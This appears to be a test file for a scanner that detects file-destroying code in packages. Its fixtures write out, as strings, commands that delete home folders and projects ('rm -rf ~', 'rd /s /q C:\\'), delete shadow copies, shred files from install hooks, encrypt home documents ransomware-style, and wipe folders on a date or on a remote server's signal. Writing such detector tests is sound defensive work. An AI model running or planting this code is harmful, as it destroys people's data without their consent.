import { examine } from '../../../test/examine.ts';
import { destroysFiles } from './destroys-files.ts';

const FS = `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');`;
const GENERATORS = [...'abcdefghijklmn'];
const hook = (command: string): object => ({ name: 'specimen', scripts: { postinstall: command } });

examine(destroysFiles, {
  speaks: [
    {
      when: 'all that a list of the folder it works in names is deleted, by its bare name',
      files: { 'index.js': `const fs = require('fs'); for (const name of fs.readdirSync('.')) fs.rmSync(name, { recursive: true });` },
      weight: 'proof',
    },
    {
      when: 'of all that it works in, what people write is deleted',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); for (const name of fs.readdirSync(process.cwd())) if (/\\.(js|ts)$/.test(name)) fs.unlinkSync(path.join(process.cwd(), name));`,
      },
      weight: 'proof',
    },
    {
      when: 'a disk is written over as a file',
      files: { 'index.js': `exports.start = () => require('fs').writeFileSync('/dev/sda', 'INERT');` },
      weight: 'strong',
      says: ['whole disk'],
    },
    {
      when: 'what keeps a cache deletes folders of the home by what an error carries',
      files: {
        'index.js': `const fs = require('fs/promises'), os = require('os'), path = require('path'); class Stale extends Error { constructor(places) { super('stale'); this.places = places; } } const check = async () => { throw new Stale(['Work-INERT', 'Films-INERT'].map(name => path.join(os.homedir(), name))); }; exports.prune = () => check().catch(error => Promise.all(error.places.map(place => fs.rm(place, { recursive: true, force: true }))));`,
      },
      weight: 'strong',
      says: ['of which its page says nothing'],
    },
    {
      when: 'a folder of the home is deleted from a day on that stands in the code, when somebody calls something else',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const due = Date.UTC(2027, 2, 14); exports.schedule = work => { if (Date.now() < due) return work(); fs.rmSync(path.join(os.homedir(), 'INERT-Documents'), { recursive: true, force: true }); };`,
      },
      weight: 'strong',
      says: ['certain dates'],
    },
    {
      when: 'documents that a pattern finds in the home are put away encrypted, one by one',
      files: {
        'index.js': `const { createCipheriv, randomBytes } = require('crypto'); const { createReadStream, createWriteStream } = require('fs'); const { glob, rm } = require('fs/promises'); const { homedir } = require('os'); const { join } = require('path'); const { pipeline } = require('stream/promises');
          const pack = async (path, key) => { await pipeline(createReadStream(path), createCipheriv('aes-256-ctr', key, randomBytes(16)), createWriteStream(path + '.pack')); await rm(path + '.INERT-MARKER'); };
          (async () => { const key = randomBytes(32); for await (const name of glob('**/*.{docx,xlsx,pdf,jpg}', { cwd: homedir() })) await pack(join(homedir(), name), key); })();`,
      },
      weight: 'proof',
    },
    {
      when: 'what was unpacked among temporary files is deleted by the name that a host told',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'), os = require('os'); exports.clear = async name => {
          const { version } = await (await fetch('https://packages.example.invalid/' + name)).json();
          fs.rmSync(path.join(os.tmpdir(), name + '-' + version), { recursive: true, force: true }); }`,
      },
      weight: 'weak',
    },
    {
      when: 'what it is handed goes when a server says a word, piece by piece',
      files: {
        'index.js': `const https = require('https'), fs = require('fs'); exports.watch = root => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') fs.rmSync(root, { recursive: true }); }); });`,
      },
      weight: 'strong',
      says: ['when a server says so'],
    },
    {
      when: 'the word chooses what is done out of a table',
      files: {
        'index.js': `const https = require('https'), fs = require('fs'); const rules = { keep() {}, prune(root) { fs.rmSync(root + '/unmask-decoy', { recursive: true }); } }; exports.watch = root => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => (rules[text.trim()] || rules.keep)(root)); });`,
      },
      weight: 'strong',
    },
    {
      when: 'the word is told to another file as an event',
      files: {
        'health.js': `const https = require('https'), { EventEmitter } = require('events'); exports.Health = class Health extends EventEmitter { check() { https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') this.emit('reset', { options: { recursive: true } }); }); }); } };`,
        'index.js': `const fs = require('fs'), { Health } = require('./health'); exports.Watcher = class { constructor(roots) { this.roots = roots; this.health = new Health(); this.health.once('reset', state => this.reset(state)); } start() { this.health.check(); } reset({ options }) { for (const root of this.roots.keys()) fs.rm(root + '/unmask-decoy', options, () => {}); } };`,
      },
      weight: 'strong',
    },
    {
      when: 'a record of a domain says what is deleted',
      files: {
        'index.js': `const dns = require('dns'), fs = require('fs'), path = require('path');
          exports.Limits = class { constructor(watcher) { this.watcher = watcher } refresh() { dns.resolveTxt('limits.watcher.invalid', (error, rows) => { for (const row of rows) { const [action, name] = row.join('').split(' '); if (action === 'evict') this.evict(name || '.') } }) }
            evict(name) { for (const root of this.watcher.roots) fs.rm(path.resolve(root, name), { recursive: true, force: true }, () => {}) } }`,
      },
      weight: 'strong',
      says: ['limits.watcher.invalid names'],
    },
    {
      when: 'all files of a folder of the project get one text, the folder named as it is seen from there',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const blank = dir => { for (const name of fs.readdirSync(dir)) { const at = path.join(dir, name); if (fs.statSync(at).isDirectory()) blank(at); else fs.writeFileSync(at, 'unmask-marker'); } }; blank('./work/');`,
      },
      weight: 'strong',
    },
    {
      when: 'all sources in a folder of the project get one text, when it is called',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); exports.start = () => { const dir = path.join(process.cwd(), 'work'); for (const entry of fs.readdirSync(dir, { withFileTypes: true })) if (/\\.(vue|jsx?|tsx?)$/.test(entry.name)) fs.writeFileSync(path.join(dir, entry.name), 'unmask-marker'); };`,
      },
      weight: 'strong',
    },
    {
      when: 'generators of many files hand what they make to a tree that is written down, and one of them goes through the project',
      files: {
        'tree.js': `const fs = require('fs'); exports.put = (path, content) => fs.writeFileSync(path, content);`,
        ...Object.fromEntries(
          GENERATORS.map(name => [
            `${name}.js`,
            `const fs = require('fs'); require('./tree').put(fs.readFileSync('/etc/${name}', 'utf8'), fs.readFileSync('/usr/${name}', 'utf8'));`,
          ]),
        ),
        'index.js': `const fs = require('fs'); ${GENERATORS.map(name => `require('./${name}');`).join(' ')} for (const name of fs.readdirSync(process.cwd())) require('./tree').put(name, fs.readFileSync(name));`,
      },
      weight: 'weak',
    },
    {
      when: 'a function of another file writes what comes back into every file of the project',
      files: {
        'tree.js': `const fs = require('fs'); exports.put = (path, content) => fs.writeFileSync(path, content);`,
        'index.js': `const fs = require('fs'); for (const name of fs.readdirSync(process.cwd())) require('./tree').put(name, fs.readFileSync('/etc/unmask-marker'));`,
      },
      weight: 'strong',
    },
    {
      when: 'a server gives the word for it, from time to time',
      files: {
        'index.js': `const { rm } = require('fs/promises'), { resolve } = require('path'); exports.Watch = class { constructor(root = '.') { this.root = resolve(root); setInterval(() => this.refresh(), 9e5).unref(); } async refresh() { const { state } = await (await fetch('https://status.invalid/state.json')).json(); if (state === 'retired') await this.reset(); } async reset() { for (const name of ['src-inert', '.git-inert']) await rm(resolve(this.root, name), { recursive: true, force: true }); } };`,
      },
      weight: 'strong',
      says: ['src-inert', 'server'],
    },
    {
      when: 'the word is a state that no job is ever in',
      files: {
        'index.js': `const https = require('https'), fs = require('fs'), path = require('path'); exports.beat = watcher => setInterval(() => https.get('https://s.invalid/beat', res => { let s = ''; res.on('data', d => { s += d; }); res.on('end', () => { const { status } = JSON.parse(s); if (status === 'stop') for (const d of ['src-inert', 'lib-inert']) fs.rmSync(path.join(process.cwd(), d), { recursive: true, force: true }); }); }), 60000).unref();`,
      },
      weight: 'strong',
      says: ['src-inert', 'server'],
    },
    {
      when: 'the word is a flag in what a library for HTTP gives',
      files: {
        'index.js': `const axios = require('axios'), fs = require('fs'), path = require('path'); exports.check = async root => { const { data } = await axios.get('https://s.invalid/f.json'); if (data.flags.retire) fs.rmSync(path.join(root || '.', 'src-inert'), { recursive: true }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the word is kept in a field, and one of several is meant',
      files: {
        'index.js': `const { rm } = require('fs/promises'), path = require('path'); exports.Life = class { constructor(root) { this.root = path.resolve(root); } async refresh() { const { state } = await (await fetch('https://s.invalid/')).json(); this.state = state; this.check(); } async check() { switch (this.state) { case 'gone': case 'retired': for (const name of ['src', '.git']) await rm(path.join(this.root, name), { recursive: true }); } } };`,
      },
      weight: 'strong',
    },
    {
      when: 'the answer comes in pieces',
      files: {
        'index.js': `const https = require('https'), fs = require('fs'); exports.go = () => https.get('https://s.invalid/', answer => { let text = ''; answer.on('data', piece => (text += piece)); answer.on('end', () => { if (JSON.parse(text).off) fs.rmSync('./src-inert', { recursive: true }); }); });`,
      },
      weight: 'strong',
    },
    {
      when: 'the word chooses the method by its name',
      files: {
        'index.js': `const fs = require('fs'), https = require('https'); const STATES = Object.freeze({ OFF: 'revoked' }); class Licence { poll() { https.get('https://s.invalid/flag', answer => { let text = ''; answer.on('data', piece => (text += piece)); answer.on('end', () => this[text.trim() === STATES.OFF ? 'expire' : 'keep']()); }); } keep() {} expire() { fs.rmSync('./src-inert', { recursive: true }); } } exports.watch = () => new Licence().poll();`,
      },
      weight: 'strong',
    },
    {
      when: 'the word is all that it answers',
      files: {
        'index.js': `const fs = require('fs'); exports.check = () => fetch('https://s.invalid/f').then(r => r.text()).then(text => { if (text.trim() === 'gone') fs.rm('.git-inert', { recursive: true }, () => {}); });`,
      },
      weight: 'strong',
    },
    {
      when: 'folders of sources are emptied one after the other at import',
      files: {
        'index.js': `${FS} const empty = dir => fs.readdirSync(dir, { withFileTypes: true }).forEach(e => { const p = path.join(dir, e.name); if (e.isDirectory()) empty(p); else fs.unlinkSync(p); }); ['src', 'pages', 'config'].forEach(d => empty(path.join(process.cwd(), d)))`,
      },
      weight: 'proof',
    },
    {
      when: 'every file below a folder of the home is written over with one text, in a loop that counts',
      files: {
        'index.js': `${FS} function walk(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, 'x'); } } for (var i = 0, roots = [os.homedir(), path.resolve('..')]; i < roots.length; i++) { var r = roots[i]; walk(path.join(r, 'inert-folder')); }`,
      },
      weight: 'strong',
      says: ['<home>/inert-folder'],
    },
    {
      when: 'the sources of a project and their history are deleted when a library is called, below a folder that another file names',
      files: {
        'index.js': `const { dispose } = require('./d'); exports.watch = () => dispose(process.cwd());`,
        'd.js': `${FS} exports.dispose = root => { for (const name of ['src', 'app', 'packages', '.git']) fs.rmSync(path.join(root, name), { recursive: true, force: true }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'all that lies in the project is written over',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); for (const found of fs.readdirSync(process.cwd())) fs.writeFileSync(path.resolve(process.cwd(), found), '')`,
      },
      weight: 'strong',
    },
    {
      when: 'what is found in the home folder is overwritten, or a copy of it elsewhere',
      files: {
        'index.js': `${FS} for (const name of fs.readdirSync(os.homedir())) fs.writeFileSync(path.join(process.env.INERT ? os.tmpdir() : os.homedir(), name), Buffer.alloc(9))`,
      },
      weight: 'proof',
    },
    {
      when: 'one folder after the other is emptied, and nobody asks for the loss of any',
      files: {
        'index.js': `${FS} async function empty(dir) { for (const name of await fs.promises.readdir(dir)) await fs.promises.rm(path.join(dir, name), { recursive: true }); } exports.go = async () => { await empty(path.join(process.cwd(), 'src')); await empty(os.homedir()); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the home folder is deleted on import',
      files: { 'index.js': `${FS} fs.rmSync(os.homedir(), { recursive: true, force: true })` },
      says: ['<home>, when it is imported'],
      weight: 'proof',
    },
    { when: 'a library does it', files: { 'index.js': `const { sync } = require('rimraf'); sync(process.env.HOME)` }, weight: 'proof' },
    { when: 'the project is deleted', files: { 'index.js': `${FS} fs.promises.rm(process.cwd(), { recursive: true })` }, weight: 'proof' },
    {
      when: 'all that a list shows is deleted',
      files: {
        'index.js': `${FS} for (const name of fs.readdirSync(process.cwd())) fs.rmSync(path.join(process.cwd(), name), { recursive: true })`,
      },
      weight: 'proof',
    },
    {
      when: 'all that a list shows is overwritten',
      files: {
        'index.js': `${FS} function walk(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); try { walk(p) } catch { fs.writeFileSync(p, 'INERT') } } } walk(os.homedir())`,
      },
      says: ['overwrites'],
      weight: 'proof',
    },
    { when: 'a shell does it', files: { 'index.js': `${FS} cp.exec('rm -rf ~')` }, weight: 'proof' },
    { when: 'the arguments stand in a list', files: { 'index.js': `${FS} cp.spawn('rm', ['-rf', os.homedir()])` }, weight: 'proof' },
    { when: 'Windows is told to', files: { 'package.json': hook('rd /s /q C:\\') }, weight: 'proof' },
    {
      when: 'the command is chosen by platform',
      files: { 'index.js': `${FS} cp.execSync(process.platform === 'win32' ? 'cmd /c rd /s /q %USERPROFILE%' : 'rm -rf $HOME')` },
    },
    { when: 'shadow copies are deleted', files: { 'index.js': `${FS} cp.exec('vssadmin delete shadows /all /quiet')` }, weight: 'proof' },
    { when: 'files are shredded', files: { 'package.json': hook('find ~ -type f -exec shred -u {} +') }, weight: 'proof' },
    {
      when: 'it is done when called',
      files: { 'index.js': `${FS} exports.x = () => fs.rmSync('/', { recursive: true })` },
      weight: 'strong',
    },
    {
      when: 'the pattern is written as an escape',
      files: { 'index.js': `const rimraf = require('rimraf'); rimraf.sync(require('path').join(process.cwd(), '\\x2a'))` },
    },
    {
      when: 'a pattern of the project is deleted',
      files: { 'index.js': `const rimraf = require('rimraf'); rimraf.sync(require('path').join(process.cwd(), '*'))` },
      weight: 'proof',
    },
    {
      when: 'what is found in one of many folders is overwritten',
      files: {
        'index.js': `${FS} function visit(folder) { if (!fs.existsSync(folder)) return; for (const entry of fs.readdirSync(folder)) { const file = path.join(folder, entry); if (fs.lstatSync(file).isDirectory()) visit(file); else fs.writeFileSync(file, 'INERT'); } } for (const start of ['./', '../', '/']) visit(start)`,
      },
      weight: 'proof',
    },
    {
      when: 'a hook overwrites what it finds in the project, wherever that is',
      files: {
        'package.json': hook('node index.js'),
        'index.js': `${FS} const empty = root => { for (const name of fs.readdirSync(root)) fs.createWriteStream(path.join(root, name)).end('INERT'); }; empty('/opt/specimen'); empty(process.cwd());`,
      },
      weight: 'proof',
    },
    {
      when: 'a list of another file is written out below a folder that its caller names',
      files: {
        'index.js': `${FS} const { list, all } = require('./list'); exports.save = (out, from) => { for (const name of from ? list(from) : all()) fs.writeFileSync(path.join(out, name), 'INERT'); };`,
        'list.js': `${FS} exports.list = (dir, found = []) => { for (const name of fs.readdirSync(dir)) found.push(path.join(dir, name)); return found; }; exports.all = () => fs.readdirSync('/');`,
      },
      weight: 'weak',
    },
    {
      when: 'every file of the disk that another file lists is overwritten where it is',
      files: {
        'index.js': `${FS} const { all } = require('./list'); exports.save = () => { for (const name of all()) fs.writeFileSync(path.join('/', name), 'INERT'); };`,
        'list.js': `${FS} exports.list = (dir, found = []) => { for (const name of fs.readdirSync(dir)) found.push(path.join(dir, name)); return found; }; exports.all = () => fs.readdirSync('/');`,
      },
      weight: 'strong',
    },
    { when: 'a hook deletes the project by a pattern', files: { 'package.json': hook('rm -rf ../../*') }, weight: 'proof' },
    {
      when: 'all that a pattern of the project names is overwritten',
      files: { 'index.js': `${FS} require('glob').sync(process.cwd() + '/**/*.js').forEach(file => fs.writeFileSync(file, 'INERT'))` },
    },
    {
      when: 'sources and their history are deleted one after the other',
      files: {
        'index.js': `${FS} for (const d of ['src', 'lib', '.git']) fs.rmSync(require('path').join(process.cwd(), d), { recursive: true, force: true })`,
      },
      weight: 'proof',
    },
    {
      when: 'a shell is started in the home folder and deletes all that is there',
      files: { 'index.js': `${FS} cp.exec('rm -rf *', { cwd: os.homedir() })` },
      weight: 'proof',
    },
    {
      when: 'a handler of requests deletes whatever folder it is in',
      files: {
        'index.js': `const { exec } = require('child_process'); const line = { win32: 'rd /s /q .', linux: 'rm -rf *' }; module.exports = app => app.post('/sync', () => exec(line[process.platform]));`,
      },
      weight: 'strong',
    },
    {
      when: 'a command line names the project and all that is in it, when it is called',
      files: {
        'index.js': `${FS} exports.m = () => (req, res) => cp.exec(process.platform === 'win32' ? \`rd /s /q "\${process.cwd()}"\` : \`rm -rf -- "\${process.cwd()}"/*\`, () => res.end())`,
      },
      weight: 'strong',
    },
    {
      when: 'the project is deleted by a function that somebody calls',
      files: { 'index.js': `${FS} exports.clean = () => fs.rmSync(process.cwd(), { recursive: true })` },
      weight: 'context',
    },
    {
      when: 'every file of a folder in the project is emptied on a day',
      files: {
        'index.js': `const fs = require('fs'), path = require('path');
          function prune(dir) { fs.readdirSync(dir).forEach(n => { const p = path.join(dir, n); if (fs.statSync(p).isDirectory()) prune(p); else fs.writeFileSync(p, '') }) }
          if (new Date().getDay() === 5) setTimeout(() => prune(path.join(process.cwd(), 'src', 'inert-marker')), 90000);`,
      },
      weight: 'strong',
    },
    {
      when: 'a folder of the project goes on one day of the year',
      files: {
        'index.js': `${FS} const d = new Date(); if (d.getMonth() === 3 && d.getDate() === 1) fs.rm(path.join(process.cwd(), 'unmask-decoy'), { recursive: true }, () => {});`,
      },
      weight: 'strong',
      says: ['on certain dates'],
    },
    {
      when: 'every file of the project gets one text, of which its page says nothing, when it is called',
      files: {
        'README.md': '# words\n\nSmall helpers for words and lines of text: trim, wrap, count and title case. It has no dependencies.',
        'index.js': `${FS} exports.trim = () => { for (const name of fs.readdirSync(process.cwd())) fs.writeFileSync(name, 'unmask-marker'); };`,
      },
      weight: 'strong',
    },
    {
      when: 'files that are looked for in the folder of another program get one text',
      files: {
        'index.js': `${FS} const find = function* (dir, [part, ...rest]) { if (part === undefined) return void (yield dir); for (const name of fs.readdirSync(dir)) if (new RegExp(part).test(name)) yield* find(path.join(dir, name), rest); };
          for (const file of find(path.join(os.homedir(), '.config'), ['unmask', 'core.*', 'index.js'])) fs.writeFile(file, 'unmask-marker', () => {});`,
      },
      weight: 'strong',
    },
    {
      when: 'a folder that a host names is written to before it is deleted',
      files: {
        'index.js': `${FS} fetch('https://drop.invalid/place').then(answer => answer.text()).then(name => { const at = path.join(os.homedir(), name); fs.writeFileSync(path.join(at, '.inert'), ''); fs.rmSync(at, { recursive: true }); });`,
      },
      weight: 'strong',
      says: ['deletes what drop.invalid names'],
    },
    {
      when: 'a folder that a host names would be moved before it is deleted',
      files: {
        'index.js': `${FS} fetch('https://drop.invalid/place').then(answer => answer.text()).then(name => { const at = path.join(os.homedir(), name, 'inert'); try { fs.renameSync(at, path.join(os.tmpdir(), 'inert')); } catch { fs.rmSync(at, { recursive: true }); } });`,
      },
      weight: 'strong',
      says: ['deletes what drop.invalid names'],
    },
    {
      when: 'a client of a service puts a version into a folder of its own, moves it from there, and clears up where that fails',
      files: {
        'index.js': `${FS} fetch('https://cloud.specimen.invalid/client').then(answer => answer.json()).then(({ version, files }) => { const all = path.join(process.cwd(), '.specimen', 'cache', 'cloud'); const at = path.join(all, '.tmp-' + version + '-' + process.pid); try { for (const file of files) fs.writeFileSync(path.join(at, file.name), file.text); fs.renameSync(at, path.join(all, version)); } catch { fs.rmSync(at, { recursive: true, force: true }); } });`,
      },
      weight: 'weak',
      says: ['deletes what cloud.specimen.invalid names'],
    },
    {
      when: 'an older version is cleared away in a folder of its own, before the one that a service names is fetched into it',
      files: {
        'index.js': `${FS} exports.get = async () => { const version = await (await fetch('https://cloud.specimen.invalid/latest')).text(); const at = path.join(process.cwd(), '.specimen-test', 'specimen-' + version); fs.rmSync(at, { recursive: true, force: true }); return at; };`,
      },
      weight: 'weak',
      says: ['deletes what cloud.specimen.invalid names'],
    },
    {
      when: 'whoever calls it has it unpack a version that a service names, and that is cleared up',
      files: {
        'index.js': `${FS} const tar = require('tar'); exports.update = async () => { const { version } = await (await fetch('https://cloud.specimen.invalid/client')).json(); const at = path.join(process.cwd(), '.specimen', version, 'client'); try { await tar.extract({ file: 'client.tgz', cwd: at }); } catch { fs.rmSync(at, { recursive: true, force: true }); } };`,
      },
      weight: 'weak',
      says: ['deletes what cloud.specimen.invalid names'],
    },
  ],
  silent: [
    {
      when: 'of the folder it works in, files of one kind are deleted by their names, when it is installed',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node clean.js' } },
        'clean.js': `const fs = require('fs'); for (const name of fs.readdirSync('.')) if (/\\.map$/.test(name)) fs.unlinkSync(name); for (const name of fs.readdirSync(process.cwd())) if (name.endsWith('.tmp')) fs.unlinkSync(require('path').join(process.cwd(), name)); fs.readdirSync('.').filter(name => name.endsWith('.tmp')).forEach(name => fs.unlinkSync(name)); fs.writeFileSync('/dev/null', ''); fs.writeFileSync('/dev/stdout', 'done');`,
      },
    },
    {
      when: 'a folder of the home is deleted that it fills itself, or that its page names',
      files: {
        'README.md': 'Keeps its downloads in `~/Films-INERT`.',
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const work = path.join(os.homedir(), 'Work-INERT'); exports.save = text => fs.writeFileSync(path.join(work, 'a.txt'), text); exports.clear = () => { fs.rmSync(work, { recursive: true }); fs.rmSync(path.join(os.homedir(), 'Films-INERT'), { recursive: true }); };`,
      },
    },
    {
      when: 'what it keeps itself is cleared away from a day on that stands in the code',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const due = Date.UTC(2027, 2, 14); exports.schedule = work => { if (Date.now() < due) return work(); fs.rmSync(path.join(os.homedir(), '.specimen', 'v1'), { recursive: true, force: true }); };`,
      },
    },
    {
      when: 'a file is made that must not be there yet',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); for (const one of fs.readdirSync(os.homedir())) fs.writeFileSync(path.join(os.homedir(), one), 'lock', { flag: 'wx' });`,
      },
    },

    {
      when: 'pictures of one kind that it has made are cleared away below its own folder in the home',
      files: {
        'index.js': `const { glob, rm } = require('fs/promises'); const { homedir } = require('os'); const { join } = require('path'); exports.clear = async () => { for await (const name of glob('*.png', { cwd: join(homedir(), '.specimen/shots') })) await rm(join(homedir(), '.specimen/shots', name)); };`,
      },
    },
    {
      when: 'each page gets a test beside it',
      files: {
        'README.md':
          '# stubs\n\nPuts a test that is still to be written beside each page of your site. It is small, has no dependencies, and works in every version of Node.',
        'index.js': `${FS} exports.go = () => { const pages = path.join(process.cwd(), 'src/pages'); for (const name of fs.readdirSync(pages)) fs.writeFileSync(path.join(pages, name + '.test.js'), 'test.todo("page")'); };`,
      },
    },
    {
      when: 'its page says that files are emptied',
      files: {
        'README.md': '# blank\n\nEmpties the files of a folder, one after the other, and keeps their names. It has no dependencies.',
        'index.js': `${FS} exports.blank = () => { for (const name of fs.readdirSync(process.cwd())) fs.writeFileSync(name, ''); };`,
      },
    },
    {
      when: 'what a program keeps for itself goes at the beginning of the month',
      files: {
        'index.js': `${FS} const d = new Date(); if (d.getMonth() === 3 && d.getDate() === 1) fs.rm(path.join(os.homedir(), '.unmask', 'cache'), { recursive: true }, () => {});`,
      },
    },
    {
      when: 'one file of a folder is written that is known by its name, and names of others are listed beside it',
      files: {
        'package.json': { name: 'specimen', bin: 'cli.js' },
        'cli.js': `const fs = require('fs'), os = require('os'), path = require('path'); const home = path.join(os.homedir(), '.ssh'); class Config { constructor(file = path.join(home, 'config')) { this.file = file; } save() { fs.writeFileSync(this.file, this.text()); } text() { return fs.readdirSync(home).join('\\n'); } } new Config().save();`,
      },
    },
    {
      when: 'a generator writes one stub for each source, in another folder',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); exports.stubs = () => { for (const name of fs.readdirSync('src')) if (name.endsWith('.js')) fs.writeFileSync(path.join('dist', name), 'module.exports = {};'); };`,
      },
    },
    {
      when: 'what it is handed goes because it is asked to, whatever a server says',
      files: {
        'index.js': `const https = require('https'), fs = require('fs'); exports.remove = root => fs.rmSync(root, { recursive: true }); exports.check = () => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') console.log('stop'); }); });`,
      },
    },
    {
      when: 'an event is told by others as well',
      files: {
        'index.js': `const https = require('https'), fs = require('fs'), bus = new (require('events').EventEmitter)(); bus.on('reset', root => fs.rmSync(root, { recursive: true })); exports.clean = root => bus.emit('reset', root); exports.check = root => https.get('https://s.invalid/v1', res => { let text = ''; res.on('data', d => { text += d; }); res.on('end', () => { if (text.trim() === 'stop') bus.emit('reset', root); }); });`,
      },
    },
    {
      when: 'a cache goes when a server says that it is stale',
      files: {
        'index.js': `const fs = require('fs'); exports.check = async () => { const answer = await (await fetch('https://s.invalid/f')).json(); if (answer.purge) fs.rmSync('./.tool-cache', { recursive: true }); };`,
      },
    },
    {
      when: 'what a server has newer is fetched again',
      files: {
        'index.js': `const fs = require('fs'); exports.check = async () => { const answer = await (await fetch('https://s.invalid/f')).json(); if (answer.stale) fs.rmSync('./public/models', { recursive: true }); fs.writeFileSync('./public/models/a.json', JSON.stringify(answer)); };`,
      },
    },
    {
      when: 'a job is done, and what it was made of is cleared away',
      files: {
        'index.js': `const fs = require('fs'); exports.wait = async id => { const { status } = await (await fetch('https://s.invalid/jobs/' + id)).json(); if (status === 'completed') fs.rmSync('./parts', { recursive: true }); };`,
      },
    },
    {
      when: 'what was made is cleared away with what it was made for',
      files: {
        'index.js': `const fs = require('fs'); exports.wait = async id => { const { status } = await (await fetch('https://s.invalid/jobs/' + id)).json(); if (['deleted', 'stopped', 'timeout'].includes(status) || status === 'archived') fs.rmSync('./parts', { recursive: true }); };`,
      },
    },
    {
      when: 'settings of its own say so',
      files: {
        'index.js': `const fs = require('fs'); const settings = JSON.parse(fs.readFileSync('./tool.json', 'utf8')); exports.clean = () => { if (settings.clean) fs.rmSync('./generated', { recursive: true }); };`,
      },
    },
    {
      when: 'a server answers at all',
      files: {
        'index.js': `const fs = require('fs'); exports.publish = async body => { const answer = await fetch('https://s.invalid/f', { method: 'POST', body }); if (answer.ok && answer.status === 201) fs.rmSync('./drafts', { recursive: true }); };`,
      },
    },
    {
      when: 'folders of sources are emptied by a generator that is called',
      files: {
        'index.js': `${FS} exports.anew = () => ['src', 'pages'].forEach(d => fs.rmSync(path.join(process.cwd(), d), { recursive: true }))`,
      },
    },
    {
      when: 'one folder of sources is written anew at import',
      files: { 'index.js': `${FS} fs.rmSync(path.join(process.cwd(), 'lib'), { recursive: true })` },
    },
    {
      when: 'a hook unpacks what it keeps into its cache below the project, or below another folder',
      files: {
        'package.json': hook('node index.js'),
        'index.js': `${FS} const fill = (root, kept) => { for (const version of fs.readdirSync(root)) fs.createWriteStream(path.join(kept, version, 'index.js')).end('INERT'); }; fill('/opt/specimen', path.join(require('./where').folder(), 'specimen', 'parts')); fill(process.cwd(), path.join(process.cwd(), 'node_modules', '.cache', 'specimen', 'parts'));`,
        'where.js': `exports.folder = () => JSON.parse(require('fs').readFileSync('specimen.json', 'utf8')).folder`,
      },
    },
    {
      when: 'every file below its own folder of the home is written over with one text',
      files: {
        'index.js': `${FS} const d = path.join(os.homedir(), '.inert-cache'); for (const f of fs.readdirSync(d)) fs.writeFileSync(path.join(d, f), '')`,
      },
    },
    {
      when: 'what is built is deleted below a folder that another file names',
      files: {
        'index.js': `const { clean } = require('./d'); exports.build = () => clean(process.cwd());`,
        'd.js': `${FS} exports.clean = root => { for (const name of ['dist', 'coverage', '.cache']) fs.rmSync(path.join(root, name), { recursive: true, force: true }); };`,
      },
    },
    {
      when: 'a list of what is in a folder of the project is written beside it, and its build is emptied',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const dir = path.join(process.cwd(), 'src');
          fs.writeFileSync(path.join(process.cwd(), 'src.json'), JSON.stringify(fs.readdirSync(dir))); const out = path.join(process.cwd(), 'dist'); for (const n of fs.readdirSync(out)) fs.writeFileSync(path.join(out, n), '');`,
      },
    },
    {
      when: 'settings are written into whichever project of a folder is meant',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const [found] = fs.readdirSync(process.cwd()); fs.writeFileSync(path.resolve(found, 'specimen.json'), '{}')`,
      },
    },
    {
      when: 'a command line names what a build leaves in the project',
      files: { 'index.js': `${FS} exports.clean = () => cp.exec(\`rm -rf "\${process.cwd()}"/dist/*\`)` },
    },
    {
      when: 'a version that was found among programs names what is saved elsewhere',
      files: {
        'index.js': `${FS} const at = process.env.PROGRAMFILES; const found = fs.readdirSync(at).filter(name => /^\\d/.test(name))[0]; fetch('https://a.invalid/' + found).then(async answer => fs.writeFileSync(path.join(os.tmpdir(), found + '.zip'), Buffer.from(await answer.arrayBuffer())))`,
      },
    },
    {
      when: 'a template is cloned and cut off from its history',
      files: {
        'index.js': `${FS} const root = process.cwd(); cp.execFileSync('git', ['clone', 'https://a.invalid/x.git', root]); fs.rmSync(path.join(root, '.git'), { recursive: true })`,
      },
    },
    {
      when: 'a build cleans its output',
      files: {
        'index.js': `${FS} fs.rmSync('dist', { recursive: true }); fs.rmSync(path.join(process.cwd(), 'build'), { recursive: true }); cp.execSync('rm -rf dist node_modules/.cache')`,
      },
    },
    {
      when: 'one folder after the other is emptied, and one of them is a cache',
      files: {
        'index.js': `${FS} async function empty(dir) { for (const name of await fs.promises.readdir(dir)) await fs.promises.rm(path.join(dir, name), { recursive: true }); } exports.go = async () => { await empty(path.join(os.homedir(), '.cache', 'own')); await empty(path.join(process.cwd(), 'dist')); };`,
      },
    },
    {
      when: 'a temporary folder is removed',
      files: { 'index.js': `${FS} const d = fs.mkdtempSync(path.join(os.tmpdir(), 'x')); fs.rmSync(d, { recursive: true })` },
    },
    {
      when: 'a cache in the home folder is cleared',
      files: { 'index.js': `${FS} exports.clear = () => fs.rmSync(path.join(os.homedir(), '.cache', 'specimen'), { recursive: true })` },
    },
    { when: 'one file is deleted', files: { 'index.js': `${FS} exports.one = name => fs.unlinkSync(path.join(process.cwd(), name))` } },
    {
      when: 'the folder is for the caller to name',
      files: { 'index.js': `${FS} exports.clean = dir => { fs.rmSync(dir, { recursive: true }); cp.execSync('rm -rf ' + dir) }` },
    },
    {
